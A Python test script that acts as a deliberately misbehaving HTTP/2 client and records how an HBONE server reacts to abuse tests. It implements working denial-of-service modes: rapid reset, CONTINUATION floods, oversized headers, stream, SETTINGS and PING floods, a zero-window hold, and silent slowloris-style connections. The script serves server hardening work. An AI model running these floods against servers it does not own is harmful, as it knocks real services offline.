#!/usr/bin/python3
# An independent, misbehaving HTTP/2 client for the HBONE server's abuse tests.
# Uses the python-hyper stack (h2's framing layer hyperframe and its HPACK codec)
# to write frames that a well-behaved client library would refuse to send, over
# TLS 1.3 with ALPN h2 and a client certificate. Prints one JSON object: what the
# server answered (GOAWAY codes, RST_STREAM codes, responses, ACKs) and when it
# closed the connection, in milliseconds from the start of the attack.
#
# usage: h2_abuse_client.py MODE --host H --port P --authority A --cert C --key K --ca CA [--count N] [--size N] [--hold S]
# Must run with Debian's python3 (/usr/bin/python3), which has python3-h2.
import argparse
import json
import select
import socket
import ssl
import sys
import time

import h2  # noqa: F401  (asserts the python-hyper stack is the one installed)
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'


class Conn:
    """A non-blocking TLS connection that parses every frame the server sends."""

    def __init__(self, sock, ack_settings=True):
        self.sock = sock
        self.out = bytearray()
        self.inbuf = bytearray()
        self.closed = False
        self.close_reason = None
        self.ack_settings = ack_settings
        self.send_error = None
        self.stats = {
            'goaway': [],
            'rst': {},
            'responses': {},
            'data_bytes': 0,
            'settings_acks': 0,
            'ping_acks': 0,
            'window_updates': 0,
        }

    def send(self, data):
        if self.send_error is None:
            self.out += data

    def pump(self, timeout):
        if self.closed:
            return
        want_write = len(self.out) > 0
        try:
            r, w, _ = select.select([self.sock], [self.sock] if want_write else [], [], timeout)
        except (OSError, ValueError) as e:
            self._close('select: %s' % e)
            return
        if r or self.sock.pending():
            self._read()
        if w and self.out and not self.closed:
            try:
                n = self.sock.send(self.out[:65536])
                del self.out[:n]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                pass
            except (OSError, ssl.SSLError) as e:
                # The server stopped reading: keep reading what it sent (its GOAWAY) until EOF.
                self.out.clear()
                self.send_error = str(e)
                self._read()

    def _read(self):
        while not self.closed:
            try:
                d = self.sock.recv(262144)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                return
            except (OSError, ssl.SSLError) as e:
                self._close('recv: %s' % e)
                return
            if not d:
                self._close('eof')
                return
            self.inbuf += d
            self._parse()

    def _parse(self):
        while len(self.inbuf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.inbuf[:9]))
            if len(self.inbuf) < 9 + length:
                return
            frame.parse_body(memoryview(bytes(self.inbuf[9:9 + length])))
            del self.inbuf[:9 + length]
            self._on_frame(frame)

    def _on_frame(self, f):
        s = self.stats
        if isinstance(f, SettingsFrame):
            if 'ACK' in f.flags:
                s['settings_acks'] += 1
            elif self.ack_settings:
                self.send(SettingsFrame(0, flags=['ACK']).serialize())
        elif isinstance(f, PingFrame):
            if 'ACK' in f.flags:
                s['ping_acks'] += 1
            else:
                self.send(PingFrame(0, opaque_data=f.opaque_data, flags=['ACK']).serialize())
        elif isinstance(f, GoAwayFrame):
            s['goaway'].append({'code': f.error_code, 'last_stream': f.last_stream_id, 'debug': f.additional_data.decode('latin-1')})
        elif isinstance(f, RstStreamFrame):
            k = str(f.error_code)
            s['rst'][k] = s['rst'].get(k, 0) + 1
        elif isinstance(f, HeadersFrame):
            # Only the status is of interest; HPACK state is not tracked (first byte 0x88 = :status 200).
            first = bytes(f.data[:1])
            k = '200' if first == b'\x88' else 'other'
            s['responses'][k] = s['responses'].get(k, 0) + 1
        elif isinstance(f, WindowUpdateFrame):
            s['window_updates'] += 1
        elif f.type == 0:  # DATA
            s['data_bytes'] += f.body_len

    def _close(self, why):
        if not self.closed:
            self.closed = True
            self.close_reason = why
            self.closed_at = time.monotonic()

    def flush(self, deadline):
        while self.out and not self.closed and time.monotonic() < deadline:
            self.pump(0.05)

    def wait_closed(self, deadline):
        while not self.closed and time.monotonic() < deadline:
            self.pump(0.05)


def tls_context(a):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_REQUIRED
    ctx.load_verify_locations(a.ca)
    ctx.load_cert_chain(a.cert, a.key)
    ctx.set_alpn_protocols(['h2'])
    return ctx


def connect_h2(a, ack_settings=True, window=None):
    raw = socket.create_connection((a.host, a.port), timeout=10)
    sock = tls_context(a).wrap_socket(raw)
    if sock.selected_alpn_protocol() != 'h2':
        raise SystemExit('server did not select h2')
    sock.setblocking(False)
    c = Conn(sock, ack_settings)
    settings = {SettingsFrame.ENABLE_PUSH: 0}
    if window is not None:
        settings[SettingsFrame.INITIAL_WINDOW_SIZE] = window
    c.send(PREFACE + SettingsFrame(0, settings=settings).serialize())
    return c


def connect_headers(enc, sid, authority, end_headers=True, extra=()):
    block = enc.encode([(':method', 'CONNECT'), (':authority', authority)] + list(extra))
    return HeadersFrame(sid, data=block, flags=['END_HEADERS'] if end_headers else []).serialize()


def run(a):
    out = {'mode': a.mode}
    hard = time.monotonic() + a.wait
    if a.mode in ('silent_tcp', 'hello_silent'):
        raw = socket.create_connection((a.host, a.port), timeout=10)
        out['local_port'] = raw.getsockname()[1]
        t0 = time.monotonic()
        if a.mode == 'hello_silent':
            # Only the ClientHello leaves: the handshake is never driven further.
            inc, outg = ssl.MemoryBIO(), ssl.MemoryBIO()
            obj = tls_context(a).wrap_bio(inc, outg)
            try:
                obj.do_handshake()
            except ssl.SSLWantReadError:
                pass
            raw.sendall(outg.read())
        raw.settimeout(max(0.1, hard - time.monotonic()))
        got = 0
        try:
            while True:
                d = raw.recv(65536)
                if not d:
                    out['close'] = 'eof'
                    break
                got += len(d)
        except socket.timeout:
            out['close'] = 'still open'
        except OSError as e:
            out['close'] = 'error: %s' % e
        out['bytes_from_server'] = got
        out['closed_after_ms'] = round((time.monotonic() - t0) * 1000)
        raw.close()
        return out

    c = connect_h2(a, window=0 if a.mode == 'zero_window' else None)
    out['local_port'] = c.sock.getsockname()[1]
    if a.settle:
        # Attack only once the SETTINGS exchange is done both ways: the server's limits are
        # then in force in nghttp2 (some are enforced only after our ACK).
        until = time.monotonic() + 2.0
        while c.stats['settings_acks'] < 1 and not c.closed and time.monotonic() < until:
            c.pump(0.05)
        c.pump(0.2)
    enc = Encoder()
    c.pump(0.2)
    t0 = time.monotonic()
    sent = 0
    n = a.count

    def backlog():
        while len(c.out) > 262144 and not c.closed and time.monotonic() < hard:
            c.pump(0.05)

    if a.mode == 'rapid_reset':
        sid = 1
        for _ in range(n):
            if c.closed or c.send_error:
                break
            c.send(connect_headers(enc, sid, a.authority) + RstStreamFrame(sid, error_code=8).serialize())
            sid += 2
            sent += 1
            if sent % 100 == 0:
                backlog()
    elif a.mode == 'continuation':
        # One header block that never ends: HEADERS without END_HEADERS, then CONTINUATIONs.
        block = enc.encode([(':method', 'CONNECT'), (':authority', a.authority)] + [('x-pad-%d' % i, 'v' * 40) for i in range(n)])
        step = max(1, len(block) // n)
        c.send(HeadersFrame(1, data=block[:step]).serialize())
        pos = step
        for _ in range(n):
            if c.closed or c.send_error:
                break
            c.send(ContinuationFrame(1, data=block[pos:pos + step]).serialize())
            pos += step
            sent += 1
            if sent % 100 == 0:
                backlog()
    elif a.mode == 'big_header':
        # a.count streams, each with one header of a.size bytes, split into 16 KiB frames.
        sid = 1
        for _ in range(n):
            if c.closed or c.send_error:
                break
            block = enc.encode([(':method', 'CONNECT'), (':authority', a.authority), ('x-big', 'b' * a.size)], huffman=False)
            frames = [block[i:i + 16384] for i in range(0, len(block), 16384)]
            for i, part in enumerate(frames):
                flags = ['END_HEADERS'] if i == len(frames) - 1 else []
                f = HeadersFrame(sid, data=part, flags=flags) if i == 0 else ContinuationFrame(sid, data=part, flags=flags)
                c.send(f.serialize())
                backlog()
            sid += 2
            sent += 1
    elif a.mode == 'concurrent':
        sid = 1
        for _ in range(n):
            if c.closed or c.send_error:
                break
            c.send(connect_headers(enc, sid, a.authority))
            sid += 2
            sent += 1
            if sent % 100 == 0:
                backlog()
    elif a.mode == 'settings_flood':
        for i in range(n):
            if c.closed or c.send_error:
                break
            c.send(SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100 + (i % 2)}).serialize())
            sent += 1
            if sent % 100 == 0:
                backlog()
    elif a.mode == 'ping_flood':
        for i in range(n):
            if c.closed or c.send_error:
                break
            c.send(PingFrame(0, opaque_data=i.to_bytes(8, 'big')).serialize())
            sent += 1
            if sent % 100 == 0:
                backlog()
    elif a.mode == 'zero_window':
        # INITIAL_WINDOW_SIZE 0 was announced; one CONNECT; never a WINDOW_UPDATE.
        c.send(connect_headers(enc, 1, a.authority))
        sent = 1
        hold_until = time.monotonic() + a.hold
        while not c.closed and time.monotonic() < hold_until:
            c.pump(0.05)
    else:
        raise SystemExit('unknown mode ' + a.mode)

    c.flush(hard)
    out['sent'] = sent
    out['sent_ms'] = round((time.monotonic() - t0) * 1000)
    if a.mode == 'zero_window':
        out['close'] = c.close_reason or 'still open'
    else:
        c.wait_closed(min(hard, time.monotonic() + a.hold))
        out['close'] = c.close_reason or 'still open'
    if c.closed:
        out['closed_after_ms'] = round((c.closed_at - t0) * 1000)
    out['send_error'] = c.send_error
    out.update(c.stats)
    try:
        c.sock.close()
    except OSError:
        pass
    return out


def main():
    p = argparse.ArgumentParser()
    p.add_argument('mode')
    p.add_argument('--host', required=True)
    p.add_argument('--port', type=int, required=True)
    p.add_argument('--authority', default='')
    p.add_argument('--cert')
    p.add_argument('--key')
    p.add_argument('--ca')
    p.add_argument('--settle', action='store_true', help='finish the SETTINGS exchange before attacking')
    p.add_argument('--count', type=int, default=1000)
    p.add_argument('--size', type=int, default=65536)
    p.add_argument('--hold', type=float, default=5.0, help='seconds to wait for the server to act')
    p.add_argument('--wait', type=float, default=20.0, help='hard overall deadline in seconds')
    a = p.parse_args()
    print(json.dumps(run(a)))
    sys.stdout.flush()


if __name__ == '__main__':
    main()
